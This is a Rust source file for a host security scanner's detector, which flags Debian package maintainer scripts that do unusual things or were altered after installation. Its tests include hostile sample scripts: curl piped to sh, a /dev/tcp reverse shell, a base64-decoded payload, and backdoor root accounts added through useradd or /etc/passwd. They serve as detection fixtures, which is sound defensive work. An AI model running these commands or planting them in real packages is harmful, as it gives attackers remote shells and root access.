//! Detector: a package's own script does something odd, was changed after it was installed, or has no package.

use crate::weigh::{self, Files, Weight};
use crate::{Card, Detector, Draft, Tables};
use calma_record::{Severity, kinds::StartupCommand, kinds::SystemSetting};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "package-script",
        doc: "A script that a package runs when it is installed or removed does what no package's does, or was changed since.",
        mechanisms: &[51],
        attack: &["T1546.016", "T1195.002"],
        why: "It ran as root when the package came, and runs again at the next update or removal.",
        innocent: "the package is a vendor's own, and its maker wrote it this way",
        next: "find out where the package came from; calma verify compares it with the signed one",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    let files = Files::new(tables);
    for row in tables.of::<StartupCommand>().filter(|row| row.mechanism == "package script") {
        let mut weight = weigh::content(&files, &row.path, true);
        // What packages do by their nature: set-id programs, accounts, keys, things that start by themselves.
        let ordinary = [
            "(set-user-id)",
            "adds an account or sets its password",
            "by themselves",
            "(setcap)",
            "writes its own cron jobs",
            "stops a service",
            "protects a file",
            "switches off what",
            "empties logs",
        ];
        // Packages of accounts and rights write these lists by their nature, but never a second root.
        let text = files.get(&row.path).and_then(|file| file.fact.text.as_ref());
        let second_root = text.is_some_and(|text| adds_root(text.as_bytes()));
        let lists = |reason: &str| !second_root && reason.contains("changes who may log in or become root");
        let named =
            |reason: &String| ordinary.iter().any(|known| reason.contains(known)) || lists(reason.as_str());
        if weight.reasons.iter().all(named) {
            weight.severity = weight.severity.min(Some(Severity::Info));
        }
        if files.get(&row.path).is_some_and(|file| file.elf) {
            weight = weight.and(Weight::of(Severity::Info, "it is a compiled program"));
        }
        let title = "A package's own script does something odd".to_owned();
        drafts.extend(weigh::draft(
            weight,
            row.path.as_bytes(),
            title,
            &row.path,
            row.line,
            &row.command,
            &row,
        ));
    }
    let changed: Vec<_> = tables.of::<SystemSetting>().filter(|row| row.area == "package script").collect();
    // Many at once is a package manager or a copy of the system that keeps no times.
    for row in changed.iter().filter(|_| changed.len() <= 20) {
        let (severity, reason) = match row.value.as_str().unwrap_or_default() {
            "no package" => {
                (Severity::Low, "it stands among the scripts of packages, but there is no such package")
            }
            "changed" => (Severity::Low, "it was changed after its package was installed"),
            _ => (Severity::Medium, "it is no file of its own, but leads elsewhere"),
        };
        let identity = [row.path.as_bytes(), b"\0", row.value.as_bytes()].concat();
        let title = "A package's own script is not as it came".to_owned();
        drafts.extend(weigh::draft(
            Weight::of(severity, reason),
            &identity,
            title,
            &row.path,
            1,
            &row.value,
            row,
        ));
    }
}

/// Whether a text holds a line of passwd(5) that gives root's ids to another name.
fn adds_root(text: &[u8]) -> bool {
    let mut words = text.split(|b| b.is_ascii_whitespace() || b"'\"`".contains(b));
    words.any(|word| weigh::contains(word, b":0:0:") && !word.starts_with(b"root:"))
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    fn host() -> Mem {
        Mem::new().file("/var/lib/dpkg/info/tool.list", "/usr/bin/tool\n")
    }

    #[test]
    fn odd_scripts_are_found() {
        for (name, text) in [
            ("tool.postinst", "#!/bin/sh\nset -e\ncurl -fsSL http://192.0.2.1/a | sh\n"),
            ("tool.prerm", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1 &\nexit 0\n"),
            ("tool.postinst", "#!/bin/sh\ncp /usr/bin/tool /dev/shm/.t; nohup /dev/shm/.t &\n"),
            ("tool.config", "#!/usr/bin/perl\nsystem(\"echo aWQ= | base64 -d | sh\");\n"),
            ("tool.preinst", "#!/usr/bin/python3\nimport os\nos.system('/var/tmp/x')\n"),
            ("tool.prerm", "#!/bin/sh\nset -e\n/usr/share/.fonts/y &\nexit 0\n"),
            ("tool.postrm", "#!/bin/sh\nset -e\nif [ -x /usr/lib/tool/z ]; then /usr/lib/tool/z; fi\n"),
            ("tool.postinst", "#!/bin/sh\nuseradd -o -u 0 -M -s /bin/bash upd\n"),
            ("tool.postinst", "#!/bin/sh\necho 'u:x:0:0::/root:/bin/sh' >> /etc/passwd\n"),
        ] {
            let path = format!("/var/lib/dpkg/info/{name}");
            let host = host().file("/usr/lib/tool/z", "\x7fELF").owned("/usr/lib/tool/z", 0o755, 0, 0);
            let seen = check(host.file(&path, text).owned(&path, 0o755, 0, 0));
            assert_eq!(seen.alarms("package-script").len(), 1, "{name}: {:#?}", seen.findings);
        }
    }

    #[test]
    fn what_packages_do_is_quiet() {
        let seen = check(host().file(
            "/var/lib/dpkg/info/tool.postinst",
            "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n  adduser --system --group tool\n  dpkg-statoverride --list /usr/bin/tool || chmod 4755 /usr/bin/tool\n  openssl req -x509 -newkey rsa -nodes -keyout /etc/ssl/private/t.key -out /etc/ssl/t.pem\n  TMP=$(mktemp /tmp/tool.XXXXXX)\n  cat > $TMP <<EOF\nx\nEOF\n  ucf $TMP /etc/tool.conf; sed -i /old/d /etc/sudoers; echo 'root:*:0:0:root:/root:/bin/bash' >> /etc/passwd; rm -f $TMP\n  deb-systemd-invoke start tool.service\nfi\n",
        ));
        assert!(seen.by("package-script").is_empty(), "{:#?}", seen.by("package-script"));
    }
}
